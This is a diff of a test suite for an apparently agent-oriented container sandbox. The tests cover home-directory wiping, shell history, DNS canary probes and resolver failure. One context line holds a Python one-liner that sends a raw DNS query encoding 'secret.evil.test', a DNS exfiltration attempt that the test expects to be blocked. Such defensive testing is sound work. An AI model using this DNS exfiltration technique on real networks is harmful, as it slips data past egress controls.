@@ -38,10 +38,14 @@ describe("lockdown", () => {
   });
 
   test("forgets the home, its history and every agent's state when the container stops", async () => {
-    expect(await acme.exec("echo secret >~/notes && mkdir -p ~/.local/state/history && ls -A ~")).toMatchObject({
+    expect(await acme.exec("echo secret >~/notes && ls -A ~")).toMatchObject({
       code: 0,
       stdout: expect.stringContaining("notes"),
     });
+    // Shells keep their history for as long as the home lasts, and do not complain.
+    expect(
+      await acme.exec("HISTFILE=~/.local/state/history/bash bash -ic 'history -a' && ls ~/.local/state/history"),
+    ).toMatchObject({ code: 0 });
     expect((await acme.exec("stat -f -c %T ~; df --output=size -k ~ | tail -1")).stdout).toMatch(
       /^tmpfs\s+1048576\s*$/,
     );
@@ -126,6 +130,32 @@ describe("web", () => {
     expect(await internet.asked("secret.evil.test")).toBe(0);
     const query = `import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(bytes.fromhex("00010100000100000000000006736563726574046576696c04746573740000010001"), ("${internet.dns}", 53)); print(s.recv(512))`;
     expect((await acme.exec(`python3 -c '${query}'`)).code).not.toBe(0);
+  });
+
+  test("is proven by a canary that can tell a name that was dialled from one that was refused", async () => {
+    const { Config, NetworkSettings } = await engine.inspect(acme.gateway);
+    const inner = NetworkSettings.Networks[`${acme.name}-inner`].IPAddress as string;
+    const probe = async (name: string) => {
+      const line = `shut name ${inner.replace(/\d+$/, "129")} ${name}`;
+      const script = `echo '${line}' | canary`;
+      const namespace = `container:${acme.agent}`;
+      return (
+        await engine.run("run", "--rm", "--network", namespace, "--entrypoint", "bash", Config.Image, "-c", script)
+      ).stdout;
+    };
+    await internet.move("here.test", internet.addresses.dns.replace(/\d+$/, "99") as `${number}.${string}`);
+    expect(await probe("also.test")).toMatch(/^LEAK /);
+    expect(await probe("here.test")).toMatch(/^LEAK /);
+    for (const refused of ["ipv4only.arpa", "lan.test", "nobody.test", "unlisted.invalid"])
+      expect(await probe(refused)).toMatch(/^ok /);
+  });
+
+  test("comes up and is proven while no resolver answers", async () => {
+    acme.write({ ...open, resolvers: [internet.addresses.dns.replace(/\d+$/, "99")] });
+    await acme.mustUp();
+    acme.write(open);
+    await acme.mustUp();
+    expect(await reached(acme, "https://also.test/")).toBe(true);
   });
 
   test("ends at once with the profile, open connections too, and no container is replaced", async () => {
